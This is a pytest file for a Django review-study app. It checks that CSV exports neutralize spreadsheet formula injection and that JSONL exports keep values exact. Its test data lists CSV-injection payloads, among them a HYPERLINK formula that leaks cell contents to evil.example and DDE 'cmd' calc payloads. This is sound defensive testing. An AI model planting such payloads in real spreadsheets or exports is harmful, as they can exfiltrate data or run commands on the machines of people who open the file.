"""Hostile content: every CSV round-trips through Python's csv module, formulas are neutralized.

Formula injection (OWASP "CSV Injection"): a string cell beginning with = + - @, a tab or a
carriage return gets a leading single quote; typed numbers (a negative one included) do not.
"""

from __future__ import annotations

import csv
import io
from datetime import timedelta

import orjson
import pytest
from django.utils import timezone

from reviewapp.ingest.models import Item
from reviewapp.queue.models import Assignment, Label
from reviewapp.reports import exports
from reviewapp.studies.models import Arm, Study
from tests.builders import body, csv_dicts, csv_rows, enrol, researcher_of

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-1+2",
    "-",
    "\t=tab first",
    "\r=carriage return first",
    'commas, "double quotes"\nand a newline',
    "CR\rinside, CRLF\r\nend\n",
    "unicode é ✓ 名前 \u202eRTL override\u202c and a RTL mark \u200f",
    "'already quoted",
    " =space first (not a formula trigger)",
    "=",
    "",
]
SCHEMA = {
    "fields": [
        {"name": "decision", "type": "nominal", "choices": ["=1+2", "-1+2", "plain"], "decision": True},
        {"name": "score", "type": "interval", "min": -10, "max": 10},
    ],
    "confidence": True,
    "comment": True,
}


@pytest.fixture
def hostile(db) -> Study:
    """A reveal-arm study whose every text field is hostile: names, ids, answers, comments."""
    study = Study.objects.create(slug="hostile", title="Hostile", status=Study.Status.RUNNING, label_schema=SCHEMA)
    arm = Arm.objects.create(study=study, name="=ARM()", shows_ai_recommendation=True, reveal=True)
    reviewer = enrol(study, "@alice", arm.name)  # the username validator would refuse it; the database does not
    now = timezone.now()
    for index, text in enumerate(HOSTILE):
        item = Item.objects.create(
            study=study,
            external_id=text or "(empty)",
            source_format="native",
            payload={"title": text, "messages": []},
            content_hash=f"{index:064d}",
            ai_recommendation="=1+2",
            gold_label="-1+2",
            is_probe=True,
        )
        assignment = Assignment.objects.create(
            study=study,
            item=item,
            reviewer=reviewer,
            arm=arm,
            state="submitted",
            lease_expires_at=now + timedelta(minutes=5),
            shown_at=now,
            initial_values={"decision": "-1+2", "score": -1},
            revealed_at=now + timedelta(seconds=1),
            submitted_at=now + timedelta(seconds=2.5),
        )
        Label.objects.create(
            assignment=assignment,
            study=study,
            item=item,
            reviewer=reviewer,
            arm=arm,
            values={"decision": ["=1+2", "-1+2", "plain"][index % 3], "score": -3.5},
            initial_values=assignment.initial_values,
            confidence=0.25,
            comment=text,
            client_timings={"ms_on_page": 2500, "ms_after_ai_shown": -12},
            interactions={"scroll_depth": 0.5, "tool_calls_expanded": 2},
            shown_at=now,
            revealed_at=assignment.revealed_at,
            submitted_at=assignment.submitted_at,
        )
    return study


def neutral(text: str) -> str:
    return "'" + text if text[:1] in ("=", "+", "-", "@", "\t", "\r") else text


class TestCsvSafety:
    def test_neutralize_prefixes_exactly_the_formula_characters(self):
        assert exports.neutralize("=1+1") == "'=1+1"
        assert exports.neutralize("+1") == "'+1"
        assert exports.neutralize("-1+2") == "'-1+2"
        assert exports.neutralize("@SUM(A1)") == "'@SUM(A1)"
        assert exports.neutralize("\tx") == "'\tx"
        assert exports.neutralize("\rx") == "'\rx"
        assert exports.neutralize(" =x") == " =x"
        assert exports.neutralize("'=x") == "'=x"
        assert exports.neutralize("") == ""
        # Typed numbers are numbers, not formulas: a negative one is left alone.
        assert exports.neutralize(-1) == -1 and exports.neutralize(-0.5) == -0.5
        assert exports.csv_cell(True) == "true" and exports.csv_cell(None) is None

    def test_csv_stream_round_trips_hostile_text_and_keeps_numbers(self):
        rows = [[text, index, -index - 0.5, None, index % 2 == 0] for index, text in enumerate(HOSTILE)]
        cells = [[exports.csv_cell(value) for value in row] for row in rows]

        text = b"".join(exports.csv_stream(["text", "int", "float", "none", "bool"], [cells])).decode("utf-8")
        back = list(csv.reader(io.StringIO(text, newline="")))

        assert back[0] == ["text", "int", "float", "none", "bool"]
        assert back[1:] == [
            [neutral(t), str(i), repr(-i - 0.5), "", "true" if i % 2 == 0 else "false"] for i, t in enumerate(HOSTILE)
        ]
        assert back[2][2] == "-1.5"  # a negative float stays a number

    def test_the_labels_export_round_trips_and_neutralizes_every_text_cell(self, client, hostile):
        client.force_login(researcher_of(hostile))

        response = client.get("/studies/hostile/exports/labels.csv")

        rows = csv_dicts(response)
        assert len(rows) == len(HOSTILE)
        for row, text in zip(rows, HOSTILE, strict=True):
            assert row["comment"] == neutral(text)
            assert row["item_external_id"] == neutral(text or "(empty)")
            assert (row["reviewer"], row["arm"], row["study"]) == ("'@alice", "'=ARM()", "hostile")
            # JSON strings are neutralized; JSON numbers are typed numbers and stay as they are.
            assert row["initial_decision"] == "'-1+2" and row["decision"] == row["value_decision"]
            assert (row["value_score"], row["initial_score"], row["ms_after_ai_shown"]) == ("-3.5", "-1", "-12")
            assert (row["ms_on_page"], row["scroll_depth"], row["tool_calls_expanded"]) == ("2500", "0.5", "2")
            assert (row["ai_recommendation"], row["gold_label"], row["is_probe"]) == ("'=1+2", "'-1+2", "true")
            assert (row["confidence"], row["seconds_to_decide"]) == ("0.25", "2.5")
            assert row["revealed_at"].endswith("Z") and row["revealed_at"] > row["shown_at"]
        assert [r["value_decision"] for r in rows[:3]] == ["'=1+2", "'-1+2", "plain"]
        # Bytes: UTF-8, no byte-order mark, CRLF line ends, the hostile cells quoted where needed.
        raw = body(client.get("/studies/hostile/exports/labels.csv"))
        assert raw.startswith(b"label_id,") and "名前".encode() in raw and b"\r\n" in raw

    def test_the_json_lines_export_keeps_the_exact_values(self, client, hostile):
        client.force_login(researcher_of(hostile))

        lines = [orjson.loads(line) for line in body(client.get("/studies/hostile/exports/labels.jsonl")).splitlines()]

        assert [x["comment"] for x in lines] == HOSTILE
        assert {(x["reviewer"], x["arm"], x["value_score"], x["initial_decision"]) for x in lines} == {
            ("@alice", "=ARM()", -3.5, "-1+2")
        }
        assert lines[0]["ms_after_ai_shown"] == -12 and lines[0]["scroll_depth"] == 0.5

    def test_the_items_export_round_trips_hostile_titles_and_ids(self, client, hostile):
        client.force_login(researcher_of(hostile))

        header, *rows = csv_rows(client.get("/studies/hostile/exports/items.csv"))

        titles = [row[header.index("title")] for row in rows]
        ids = [row[header.index("external_id")] for row in rows]
        assert titles == [neutral(t) for t in HOSTILE]
        assert ids == [neutral(t or "(empty)") for t in HOSTILE]
        assert {row[header.index("labels_count")] for row in rows} == {"1"}

    def test_the_summary_rows_neutralize_names_but_not_negative_estimates(self):
        result = {
            "decision_field": "decision",
            "arms": [
                {
                    "name": "=ARM()",
                    "role": "rationale",
                    "reveal": False,
                    "n_labels": 8,
                    "agreement_with_ai": {"all": {"value": 0.5, "low": 0.2, "high": 0.8, "n": 8, "method": "wilson"}},
                    "deference_effect": {
                        "all": {
                            "cluster": {"value": -0.25, "low": -0.5, "high": 0.0, "n": 16, "method": "cluster"},
                            "newcombe": {"value": -0.25, "low": -0.6, "high": 0.1, "n": 16, "method": "newcombe"},
                        }
                    },
                    "design_effect": None,
                    "reliance": {},
                    "agreement": {},
                }
            ],
            "narrative_increment": None,
        }
        rows = exports.agreement_rows(study="-s", run_id=1, computed_at="2026-01-01T00:00:00.000000Z", result=result)
        cells = [[exports.csv_cell(v) for v in row] for row in rows]
        text = b"".join(exports.csv_stream([c.name for c in exports.AGREEMENT_COLUMNS], [cells])).decode()

        back = {(r["metric"], r["split"]): r for r in csv.DictReader(io.StringIO(text, newline=""))}

        effect = back[("deference_effect", "all")]
        assert (effect["study"], effect["arm"], effect["estimate"], effect["ci_low"]) == (
            "'-s",
            "'=ARM()",
            "-0.25",
            "-0.5",
        )
        assert back[("design_effect", "all")]["estimate"] == ""
